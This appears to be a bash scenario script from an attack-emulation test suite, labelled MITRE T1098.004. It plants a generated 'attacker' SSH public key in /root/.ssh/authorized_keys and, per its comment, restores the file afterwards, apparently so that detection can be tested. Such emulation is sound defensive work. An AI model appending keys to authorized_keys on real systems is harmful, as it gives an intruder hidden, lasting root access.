#!/usr/bin/env bash
# Persistence: an attacker's public key appended to /root/.ssh/authorized_keys (restored exactly;
# /root/.ssh is removed if the scenario had to create it).
. "$(dirname "$0")/../lib.sh"
scn_begin persist-authkeys T1098.004
scn_require ssh-keygen
scn_tmpdir SCN_WORK
ssh-keygen -q -t ed25519 -N '' -C scn-attacker -f "$SCN_WORK/k"
if [ -d /root/.ssh ]; then
    scn_guard_file /root/.ssh/authorized_keys
else
    scn_mkdir /root/.ssh
    chmod 700 /root/.ssh
fi
bash -c 'cat "$1" >> /root/.ssh/authorized_keys' _ "$SCN_WORK/k.pub" &
key=$!
wait $key || scn_fail "authorized_keys was not written"
grep -q scn-attacker /root/.ssh/authorized_keys || scn_fail "the key is not in authorized_keys"
scn_done $key
